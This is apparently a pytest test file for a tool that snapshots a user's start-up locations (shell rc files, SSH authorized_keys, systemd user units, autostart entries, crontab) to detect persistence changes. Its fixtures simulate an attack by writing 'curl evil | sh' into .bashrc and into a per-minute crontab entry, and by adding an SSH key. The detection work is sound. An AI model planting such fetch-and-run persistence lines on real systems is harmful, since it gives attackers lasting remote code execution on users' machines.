"""Snapshots of where a program can be set to start later (client/persistence.py), taken
in a temporary HOME."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tether.client import persistence as p
from tether.client.escapes import Change, changes


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    monkeypatch.setenv("HOME", str(home))
    for name in ("XDG_CONFIG_HOME", "XDG_DATA_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "run"))
    return home


def test_each_kind_of_persistence_change_is_found(home: Path) -> None:
    before = p.snapshot(home)
    with open(home / ".bashrc", "a") as f:
        f.write("curl evil | sh\n")
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA technician\n")
    units = home / ".config" / "systemd" / "user" / "default.target.wants"
    units.mkdir(parents=True)
    (units / "x.service").symlink_to("/tmp/x.service")
    (home / ".config" / "autostart").mkdir()
    (home / ".config" / "autostart" / "x.desktop").write_text("[Desktop Entry]\n")
    after = p.snapshot(home)
    found = {c.what: c.how for c in changes(before.digests, after.digests)}
    assert found["~/.bashrc"] == "changed"
    assert found["~/.ssh/authorized_keys"] == "added"
    assert found["~/.config/systemd/user/default.target.wants/x.service"] == "added"
    assert found["~/.config/autostart/x.desktop"] == "added"
    assert {"systemd user units", "~/.ssh/authorized_keys", "shell start-up files",
            "autostart entries"} <= set(after.checked)


def test_nothing_changed_is_no_change_and_a_touch_is_not_a_change(home: Path) -> None:
    before = p.snapshot(home)
    os.utime(home / ".bashrc", (1, 1))
    assert changes(before.digests, p.snapshot(home).digests) == []


def test_a_start_up_file_that_is_a_link_is_followed(home: Path, tmp_path: Path) -> None:
    target = tmp_path / "dotfiles-zshrc"
    target.write_text("a\n")
    (home / ".zshrc").symlink_to(target)
    before = p.snapshot(home)
    target.write_text("a\nb\n")
    assert changes(before.digests, p.snapshot(home).digests) == [
        Change("~/.zshrc", "changed")]


def test_directories_are_walked_without_links_and_within_bounds(
        home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(p, "MAX_FILES", 20)
    autostart = home / ".config" / "autostart"
    autostart.mkdir(parents=True)
    for i in range(50):
        (autostart / f"{i:02}.desktop").write_text("x")
    (home / ".config" / "environment.d").symlink_to("/")  # not walked
    snap = p.snapshot(home)
    under = [k for k in snap.digests if k.startswith("~/.config/autostart/")]
    assert 0 < len(under) < 20
    assert "~/.config/autostart (more files)" in snap.digests
    assert snap.digests["~/.config/environment.d"].startswith("link:/")
    assert not any(k.startswith("~/.config/environment.d/") for k in snap.digests)


def test_a_fifo_in_place_of_a_file_does_not_hang(home: Path) -> None:
    (home / ".profile").unlink(missing_ok=True)
    os.mkfifo(home / ".profile")
    snap = p.snapshot(home)
    assert snap.digests["~/.profile"].startswith("10")  # its mode, never opened


def test_crontab_is_checked_with_the_crontab_command_when_there_is_one(
        home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    table = tmp_path / "table"
    fake = bin_dir / "crontab"
    fake.write_text(f"#!/bin/sh\n[ -f {table} ] || exit 1\ncat {table}\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    before = p.snapshot(home)
    assert "crontab" in before.checked and "crontab" not in before.digests  # none yet
    table.write_text("* * * * * curl evil | sh\n")
    assert changes(before.digests, p.snapshot(home).digests) == [Change("crontab", "added")]
